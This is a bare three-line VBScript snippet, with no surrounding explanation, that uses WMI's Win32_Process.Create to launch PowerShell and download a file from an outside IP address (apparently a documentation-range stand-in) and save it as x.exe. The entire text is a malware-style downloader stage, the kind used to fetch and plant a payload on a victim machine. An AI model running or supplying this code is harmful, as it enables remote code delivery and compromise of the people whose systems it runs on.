Set w = GetObject("winmgmts:\\.\root\cimv2")
Set p = w.Get("Win32_Process")
p.Create "powershell -c iwr http://198.51.100.3/x -OutFile x.exe", Null, Null, pid
